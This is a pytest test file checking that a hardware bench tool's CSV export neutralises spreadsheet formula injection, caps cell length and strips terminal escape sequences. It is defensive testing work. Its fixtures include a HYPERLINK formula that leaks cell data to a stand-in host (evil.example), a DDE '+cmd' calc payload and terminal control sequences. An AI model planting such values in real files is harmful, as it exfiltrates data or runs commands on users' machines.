"""CSV formula injection (issue 19): whatever a unit or a technician puts in a cell, the CSV export opens in a
spreadsheet as text, never as a formula, and no cell is longer than the cap."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from helpers.tui_store import finish, identify, passing

from bench.cli import main
from bench.model import Outcome, TestResult
from bench.reports.csv_cells import CELL_LIMIT, safe_cell, truncated
from bench.store import Store

HOSTILE_SERIAL = '=HYPERLINK("http://evil.example/?"&A1,"X")'
HOSTILE_MODEL = "+cmd|'/Ccalc'!A0"


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n+1", "\uff1d1",
                                  "-2.33dBm past its alarm threshold", "-", "--1"])
def test_a_cell_a_spreadsheet_would_evaluate_is_quoted(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-2.33, -5, "-2.33", "-40", "-1e5", 0, "12", "FOC1931X0AB", "", None, "a=b"])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == ("" if value is None else str(value))


def test_a_long_cell_is_capped_and_says_how_much_was_cut() -> None:
    cell = safe_cell("=" + "A" * 200_000)
    assert len(cell) == CELL_LIMIT and cell.startswith("'=AAA")
    assert cell.endswith(f"…[cut {200_002 - CELL_LIMIT + len(cell[cell.index('…'):])} characters]")
    kept = cell[:cell.index("…")]
    assert len(kept) + int(cell.rsplit("cut ", 1)[1].split()[0]) == 200_002  # quote + 200,001 characters
    assert truncated("short") == "short"


@pytest.fixture
def hostile_db(tmp_path: Path) -> str:
    store = Store(str(tmp_path / "bench.db"))
    run_id, _ = store.open_run("key", "bench-3", "quick", "bench.yaml", ["S1", "S2"])
    identify(store, run_id, "S1", HOSTILE_MODEL, HOSTILE_SERIAL)
    finish(store, run_id, "S1", passing(0), 0, 40)
    identify(store, run_id, "S2", "WS-C2960X-48TS-L", "FOC2011Y1CD")
    flooded = passing(0)
    # A unit whose log floods the summary: the WARN's reason carries 200,000 characters of it.
    flooded[5] = TestResult("logs", Outcome.WARN, "A" * 200_000, {}, flooded[5].started, flooded[5].finished)
    finish(store, run_id, "S2", flooded, 0, 40)
    store.close()
    return f"sqlite:///{tmp_path / 'bench.db'}"


def test_csv_export_neutralises_unit_and_technician_text(hostile_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["grade", "FOC2011Y1CD", "--db", hostile_db, "--operator", "@jo", "--cosmetic", "C5",
                 "--notes", '=HYPERLINK("http://evil.example/?"&A1,"X")', "--asset-tag", "+cmd|'/Ccalc'!A0"]) == 0
    capsys.readouterr()
    assert main(["export", "--db", hostile_db, "--format", "csv"]) == 0
    text = capsys.readouterr().out
    rows = list(csv.DictReader(io.StringIO(text)))
    by_slot = {r["slot"]: r for r in rows}
    assert by_slot["S1"]["serial"] == "'" + HOSTILE_SERIAL and by_slot["S1"]["model"] == "'" + HOSTILE_MODEL
    s2 = by_slot["S2"]
    assert s2["notes"] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"X")'
    assert s2["asset_tag"] == "'+cmd|'/Ccalc'!A0" and s2["operator"] == "'@jo"
    for row in rows:
        for name, cell in row.items():
            assert len(cell) <= CELL_LIMIT, name
            head = cell.lstrip(" \n")
            assert not head.startswith(("=", "+", "@", "\t", "\r")), (name, cell[:60])
            assert not (head.startswith("-") and not head[1:2].isdigit()), (name, cell[:60])
    assert "…[cut " in s2["reasons"]  # the flooded summary reaches the reasons, capped and marked


def test_json_export_keeps_the_text_as_entered(hostile_db: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Quoting is for spreadsheets: the JSON export carries the unit's own text unchanged."""
    import json

    assert main(["export", "--db", hostile_db]) == 0
    units = {u["slot"]: u for u in json.loads(capsys.readouterr().out)["units"]}
    assert units["S1"]["serial"] == HOSTILE_SERIAL and units["S1"]["model"] == HOSTILE_MODEL


@pytest.mark.parametrize("text", ["M\x1b]0;pwned\x07\x1b[2J", "a\x00b", "x\x9b31m", "del\x7f"])
def test_terminal_control_characters_never_reach_a_cell(text: str) -> None:
    """`bench export --format csv` on a terminal: a unit's model with ESC sequences would retitle or clear it."""
    cell = safe_cell(text)
    assert not any(ord(c) < 32 or 0x7f <= ord(c) < 0xa0 for c in cell), repr(cell)
    assert cell.replace("\ufffd", "").isprintable()
    assert safe_cell("two\nlines\tand a tab") == "two\nlines\tand a tab"  # honest notes keep their layout
